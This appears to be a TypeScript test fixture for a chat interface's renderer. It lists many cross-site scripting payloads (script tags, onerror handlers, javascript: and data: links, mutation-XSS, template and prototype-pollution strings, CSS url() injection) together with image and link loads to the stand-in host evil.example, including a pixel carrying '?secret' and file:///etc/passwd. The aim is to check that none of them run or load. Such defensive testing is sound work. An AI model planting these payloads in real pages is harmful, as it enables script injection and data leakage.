// What somebody would have the chat show in order to run a script on the page, to load something from elsewhere, or to get
// out of the element: as words of a model, of a person or of another page. `RUN` is what must never happen.
import type { ThreadItem } from '../../../server/chatkit/protocol/items.ts';
import type { WidgetRoot } from '../../../server/chatkit/protocol/widgets.ts';

const RUN = "pwned('x')";
/** Where nothing may be asked of. */
export const FOREIGN = 'https://evil.example';

/** Text that is shown as Markdown, as plain text and as the value of every kind of property. */
export const TEXTS: readonly string[] = [
  // Elements.
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${FOREIGN}/x.swf">`,
  `<link rel=stylesheet href="${FOREIGN}/x.css">`,
  `<style>@import url(${FOREIGN}/y.css); * { background: url(${FOREIGN}/bg.png) }</style>`,
  `<base href="${FOREIGN}/">`,
  `<meta http-equiv="refresh" content="0;url=${FOREIGN}/">`,
  `<form action="${FOREIGN}/"><input name=a><button>Go</button></form>`,
  `<video src="${FOREIGN}/v.mp4" autoplay onloadstart="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<task-chat api-url="${FOREIGN}/chatkit"></task-chat>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `</textarea></style></title></div></template><script>${RUN}</script>`,
  // Markdown.
  `[a](javascript:${RUN})`,
  `[b](JaVaScRiPt:${RUN})`,
  `[c](java\nscript:${RUN})`,
  `[d](&#106;avascript:${RUN})`,
  `[e](data:text/html,<script>${RUN}</script>)`,
  `[f](vbscript:${RUN})`,
  `[g](blob:${FOREIGN}/1)`,
  `[h](file:///etc/passwd)`,
  `[i](<javascript:${RUN}>)`,
  `[j]( \u0001javascript:${RUN})`,
  `[k]:javascript:${RUN}\n\n[k]`,
  `<javascript:${RUN}>`,
  `![l](javascript:${RUN})`,
  `![m](${FOREIGN}/pixel.png?secret)`,
  `![n](//evil.example/p.png)`,
  `[![o](${FOREIGN}/p.png)](javascript:${RUN})`,
  `[p](https://example.org "\\" onmouseover=\\"${RUN}")`,
  `[q](https://example.org" onmouseover="${RUN})`,
  `\`\`\`html" onload="${RUN}\n<img src=x onerror="${RUN}">\n\`\`\``,
  `| a | <img src=x onerror="${RUN}"> |\n|---|---|\n| [t](javascript:${RUN}) | ![u](${FOREIGN}/t.png) |`,
  `- [ ] <img src=x onerror="${RUN}">`,
  `# <a href="javascript:${RUN}">heading</a>`,
  // Breaking out of templates, of attributes, of JSON.
  `"><img src=x onerror="${RUN}">`,
  `' onfocus='${RUN}' autofocus='`,
  `\${${RUN}}`,
  '{{constructor.constructor("pwned(1)")()}}',
  `lit$123456789$<!--?lit$123456789$-->${RUN}`,
  `\u2028\u2029</script><script>${RUN}</script>`,
  `\u202e<script>${RUN}</script>`,
  `\0<scr\0ipt>${RUN}</scr\0ipt>`,
  '__proto__',
];

const URLS: readonly string[] = [
  `javascript:${RUN}`,
  `JAVASCRIPT:${RUN}`,
  `\tjavascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`,
  `${FOREIGN}/p.png`,
  '//evil.example/p.png',
  `https://user:${RUN}@evil.example/p.png`,
  'https://allowed.example.evil.example/p.png',
  'https://evilallowed.example/p.png',
  'https://evil.example#.allowed.example/p.png',
  'https://evil.example\\.allowed.example/p.png',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'ftp://evil.example/p.png',
];
const STYLES: readonly string[] = [
  `url(${FOREIGN}/s.png)`,
  `red; background: url(${FOREIGN}/s.png)`,
  `red}*{background:url(${FOREIGN}/s.png)`,
  `expression(${RUN})`,
  `image-set("${FOREIGN}/s.png" 1x)`,
  `var(--x, url(${FOREIGN}/s.png))`,
  `linear-gradient(red, blue), url(${FOREIGN}/s.png)`,
];

const at = '2026-01-01T00:00:00Z';
let ids = 0;
const base = () => {
  ids += 1;
  return { id: `msg_${String(ids).padStart(6, '0')}`, thread_id: 'thr_hostile', created_at: at };
};

/** A widget's JSON as a model may write it: whatever it is called, it is shown as one. */
const widget = (children: unknown[], more: object = {}): ThreadItem => ({
  ...base(),
  type: 'widget',
  widget: { type: 'Card', children, ...more } as unknown as WidgetRoot,
});
const answer = (text: string, annotations: unknown[] = []): ThreadItem =>
  ({ ...base(), type: 'assistant_message', content: [{ type: 'output_text', text, annotations }] }) as ThreadItem;
const source = (fields: object) => ({ type: 'annotation', source: { title: 'x', ...fields }, index: 0 });

/** Images that may be loaded where `allowed.example` is on the list. */
export const SOUND_IMAGES: readonly string[] = [
  'https://allowed.example/picture.png',
  'https://cdn.allowed.example/below.png',
  'https://allowed.example/generated.png',
];

/** What an honest model shows: the hostile images in the same places. */
export function soundImages(): ThreadItem[] {
  const [picture, below, generated] = SOUND_IMAGES;
  return [
    widget([
      { type: 'Image', src: picture, alt: 'x', width: 40, height: 40 },
      { type: 'Image', src: below, alt: 'x', width: 40, height: 40 },
    ]),
    { ...base(), type: 'generated_image', image: { id: 'img', url: generated } } as ThreadItem,
  ];
}

/** Every text in every place where text is shown, every address wherever there is one, every style likewise. */
export function hostileItems(): ThreadItem[] {
  return [
    ...TEXTS.flatMap((text) => [
      answer(text),
      {
        ...base(),
        type: 'user_message',
        content: [{ type: 'input_text', text }],
        attachments: [],
        inference_options: {},
        quoted_text: text,
      } as ThreadItem,
      widget(
        [
          { type: 'Title', id: text, value: text },
          { type: 'Text', value: text, editable: { name: text, placeholder: text } },
          { type: 'Caption', value: text },
          { type: 'Markdown', value: text },
          { type: 'Badge', label: text },
          { type: 'Icon', name: text },
          { type: 'Button', label: text, iconStart: text, onClickAction: { type: text, payload: { [text]: text } } },
          { type: 'Label', fieldName: text, value: text },
          { type: 'Input', name: text, placeholder: text, defaultValue: text, pattern: text },
          { type: 'Textarea', name: `t${text}`, placeholder: text, defaultValue: text },
          { type: 'Select', name: `s${text}`, options: [{ value: text, label: text }], placeholder: text },
          { type: 'RadioGroup', name: `r${text}`, options: [{ value: text, label: text }] },
          { type: 'DatePicker', name: `d${text}`, placeholder: text },
          { type: 'Image', src: text, alt: text },
          { type: text, children: [{ type: 'Text', value: text }] },
          { type: 'Table', columns: [{ key: text, label: text }], rows: [{ [text]: text }], children: [] },
        ],
        { status: { text, favicon: text }, confirm: { label: text, action: { type: text } }, theme: text },
      ),
      {
        ...base(),
        type: 'workflow',
        workflow: {
          type: 'custom',
          summary: { title: text },
          expanded: true,
          tasks: [
            { type: 'custom', title: text, content: text, icon: text },
            { type: 'web_search', title: text, queries: [text], sources: [{ type: 'url', title: text, url: text }] },
            { type: 'thought', title: text, content: text },
          ],
        },
      } as ThreadItem,
    ]),
    ...URLS.flatMap((url) => [
      answer(`[link](${url}) ![picture](${url}) <${url}>`, [
        source({ type: 'url', url, attribution: url }),
        source({ type: 'file', filename: url }),
        source({ type: 'entity', id: url, icon: url, interactive: true, data: { url } }),
      ]),
      widget(
        [
          { type: 'Image', src: url, alt: 'x', width: 40, height: 40 },
          { type: 'Markdown', value: `![x](${url}) [y](${url})` },
          { type: 'Box', background: url, children: [{ type: 'Text', value: 'x' }] },
        ],
        { status: { text: 'x', favicon: url, frame: true } },
      ),
      { ...base(), type: 'generated_image', image: { id: 'img', url } } as ThreadItem,
    ]),
    ...STYLES.map((value) =>
      widget(
        [
          {
            type: 'Box',
            background: value,
            border: { size: 1, color: value, style: value },
            width: value,
            radius: value,
            children: [],
          },
          { type: 'Text', value: 'x', color: value, size: value, weight: value, width: value },
          {
            type: 'Row',
            gap: value,
            padding: value,
            margin: value,
            children: [{ type: 'Icon', name: 'check', color: value }],
          },
          { type: 'Divider', color: value, spacing: value },
          {
            type: 'Image',
            src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=',
            radius: value,
            background: value,
            position: value,
          },
        ],
        { background: value, padding: value, size: value },
      ),
    ),
  ];
}
